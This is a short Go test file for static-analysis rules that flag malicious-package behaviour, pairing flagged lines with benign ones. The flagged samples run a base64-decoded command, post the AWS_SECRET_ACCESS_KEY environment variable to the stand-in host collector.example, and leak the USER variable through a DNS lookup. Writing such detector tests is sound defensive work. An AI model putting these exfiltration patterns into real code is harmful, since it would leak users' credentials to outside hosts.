package main

import (
	b64 "encoding/base64"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

func run() {
	data := "cHdk"
	sDec, _ := b64.StdEncoding.DecodeString(data)
	// ruleid: package.go.run-decoded-or-downloaded
	exec.Command(string(sDec)).Run()
	// ok: package.go.run-decoded-or-downloaded
	exec.Command("go", "version").Run()
}

func leak() {
	key := os.Getenv("AWS_SECRET_ACCESS_KEY")
	// ruleid: package.go.secret-to-network
	http.Post("http://collector.example/k", "text/plain", strings.NewReader(key))
	// ok: package.go.secret-to-network
	http.Get("https://proxy.golang.org/")
}

func dns() {
	user := os.Getenv("USER")
	// ruleid: package.go.dns-exfiltration
	net.LookupHost(user + ".collector.example")
	// ok: package.go.dns-exfiltration
	net.LookupHost("proxy.golang.org")
}
